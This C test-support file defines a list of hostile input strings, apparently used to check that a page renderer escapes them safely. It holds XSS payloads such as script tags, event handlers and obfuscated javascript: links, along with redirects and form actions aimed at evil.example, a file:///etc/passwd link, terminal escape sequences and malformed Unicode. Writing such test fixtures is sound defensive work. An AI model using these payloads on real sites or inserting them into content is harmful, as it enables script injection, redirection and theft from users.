/* Hostile texts: every way known here to make a text act. */

#include "tests/support/pages_html.h"

#define TEXT(literal)                                                                              \
    {                                                                                              \
        literal, sizeof(literal) - 1                                                               \
    }

const struct sl_span hostile[] = {
    TEXT(""),
    TEXT("<script>alert(1)</script>"),
    TEXT("</pre></code></td></tr></table></div></article><script>alert(1)</script>"),
    TEXT("<ScRiPt src=//evil.example></sCrIpT\t\n>"),
    TEXT("<img src=x onerror=alert(1)>"),
    TEXT("\"><svg/onload=alert(1)>"),
    TEXT("' onmouseover='alert(1)"),
    TEXT("\" autofocus onfocus=\"alert(1)"),
    TEXT("<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>"),
    TEXT("<math><mtext><table><mglyph><style><img src onerror=alert(1)>"),
    TEXT("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    TEXT("<!--><img src=x onerror=alert(1)>-->"),
    TEXT("<![CDATA[<img src=x onerror=alert(1)>]]>"),
    TEXT("<?php <script>alert(1)</script> ?>"),
    TEXT("<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    TEXT("<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>"),
    TEXT("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    TEXT("<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//e>"),
    TEXT("<form action=//evil.example><input name=a><button>x</button></form>"),
    TEXT("&lt;script&gt;&#60;script&#62;&#x3c;img src=x onerror=alert(1)&#x3E;"),
    TEXT("&#0;&#x202e;&#xFEFF;&ZeroWidthSpace;&rlm;&lrm;&shy;&#13;&#x85;"),
    TEXT("[a](javascript:alert(1))"),
    TEXT("[a](JaVaScRiPt:alert(1) \"x\\\" onclick=alert(1)\")"),
    TEXT("[a](java\tscript:alert(1)) [b](<java\nscript:alert(1)>) [c](< javascript:alert(1)>)"),
    TEXT("[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(1)) [c](\\javascript:a)"),
    TEXT("[a](java&Tab;script:alert(1)) [b](java&NewLine;script:alert(1)) [c](&#1;javascript:a)"),
    TEXT("[a](vbscript:x) [b](data:text/html;base64,PHN2Zz4=) [c](file:///etc/passwd) [d](//e)"),
    TEXT("[a](view-source:x) [b](blob:x) [c](about:blank) [d](../sessions) [e](#x) [f](?a=b)"),
    TEXT("[a](https://x.example/\"onclick=alert(1)//) [b](<https://x.example/ \" onclick=a>)"),
    TEXT("[a](https://x.example 'title\" onclick=\"alert(1)') [b](http://x.example/<script>)"),
    TEXT("![a](javascript:alert(1)) ![b](https://x.example/a.png \"t\") ![](data:image/svg+xml,x)"),
    TEXT("[![a](https://x.example/a.png)](https://y.example) ![[a](http://b)](http://c)"),
    TEXT("<javascript:alert(1)> <https://x.example/\"onclick=a> <data:text/html,x> <a@b.example>"),
    TEXT("https://x.example/\"onmouseover=alert(1) www.x.example/<script> javascript:alert(1)"),
    TEXT("xmpp:a@b.example mailto:a@b.example?body=<script> ftp://x.example a@b.example"),
    TEXT("[r]\n\n[r]: javascript:alert(1) \"<script>\"\n"),
    TEXT("# <script>\n## [a](javascript:b)\n###### six\n####### seven\nx\n===\n"),
    TEXT(
        "| <script> | a\\|b |\n|:--|--:|\n| <img src=x onerror=a> | [x](javascript:y) |\n| one |\n"),
    TEXT("- [ ] <script>\n- [x] done <b>\n  1. [x] in\n\n     > q\n999999999. big\n"),
    TEXT("```js\" onclick=\"alert(1)\n<script>\n```\n~~~<script>\nx\n~~~\n````\n```\n````\n"),
    TEXT("```\n</code></pre><script>alert(1)</script>"),
    TEXT("``` class=\"x\" \\\"\nx\n```\n``` \xe2\x80\xaejs\nx\n```\n"),
    TEXT("> > - > 1. > ```\n> > - > 1. > <script>\n"),
    TEXT("**<b>**~~<i>~~`<u>`<br><br/><BR onclick=a><br\nx>line  \nbreak\\\nend"),
    TEXT("<details open ontoggle=alert(1)><summary>x</summary>\n\n*md*\n\n</details>\n"),
    TEXT("a\0b\x01\x1b[31m\x7f\x08\x0c\x0b"),
    TEXT(
        "\xc3(\xe2\x82\xf0\x9f\x98\xff\xfe\xc0\x80\xe0\x80\xbc\xf8\x88\x80\x80\x80\xf4\x90\x80\x80"),
    TEXT("\xe0\x81\x81 \xf0\x80\x81\x81 \xf0\x82\x82\xac"),
    TEXT("\xed\xa0\x80 \xed\xb0\x80 \xed\xa0\xbd\xed\xb8\x80"),
    TEXT("\xc0\xbc"
         "script\xc0\xbe \xe0\x80\xbc"
         "script\xe0\x80\xbe +ADw-script+AD4-"),
    TEXT("\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad\xe2\x80\xae\xe2\x81\xa6\xe2\x81\xa7"
         "\xe2\x81\xa8\xe2\x81\xa9\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c"),
    TEXT(
        "\xef\xbb\xbf\xe2\x80\x8b\xe2\x80\x8c\xe2\x80\x8d\xe2\x81\xa0\xc2\xad\xe2\x80\xa8\xe2\x80\xa9"),
    TEXT(
        "\xf3\xa0\x81\xa1\xf3\xa0\x80\x81\xef\xbf\xbe\xef\xbf\xbf\xf4\x8f\xbf\xbf\xc2\x85\xc2\x9b"),
    TEXT("\r\r\n\r\n\r x\r"),
    TEXT(
        "\x1b[38;5;196m<b>\x1b[48;2;1;2;3mx\x1b[0m\x1b[999999999999mz\x1b[;;;;m\x1b[38m\x1b[48;5m"),
    TEXT("\x1b]0;<script>\a\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\ \x1b]52;c;PHg+\a"),
    TEXT("\x1b]0;never ends <script>alert(1)</script>\nnext"),
    TEXT("\x1bP<script>\x1b\\\x1b_<x>\x1b\\\x1b^<y>\x1b\\\x1bX<z>\x1b\\\x1b(B\x1b=\x1b"),
    TEXT("50%\r<script>\rx\b\b\b\b<\x1b[K\x1b[2K\x1b[1K\x1b[99999999C<\x1b[5D\x1b[G\x1b[\x1b[3"),
    TEXT("\xc3\r\xa9\b\xe2\b\b\xf0\x9f\r\x98<"),
    TEXT(
        "--- a/<script>\n+++ b/\" onclick=\"a\n@@ -1,2 +1,2 @@ <img src=x onerror=a>\n-<b>\n+<i>\n \"\n"),
    TEXT(
        "Index: <script>\n===\n--- <script>\t\n+++ <script>\t\n@@ -0,0 +1 @@\n+<script>\n\\ No <b>\n"),
    TEXT("*** Begin Patch\n*** Update File: <script>\n*** Move to: <b>\n@@ <i>\n-<a>\n+<b>\n <c>\n"
         "*** End Patch"),
    TEXT("*** Begin Patch\n*** Add File: a\n+<script>\n*** Delete File: <b>\n*** End Patch\n"),
    TEXT("@@ -1 +1 @@\n-a<script>\xe2\x82\xac\n+a<script>\xe2\x82\xad\n"),
    TEXT(
        "diff --git a/<x> b/<x>\nrename from <x>\nrename to <y>\nBinary files <a> differ\n@@ -1 +1 @@\n<"),
};
const size_t hostile_count = sizeof(hostile) / sizeof(*hostile);
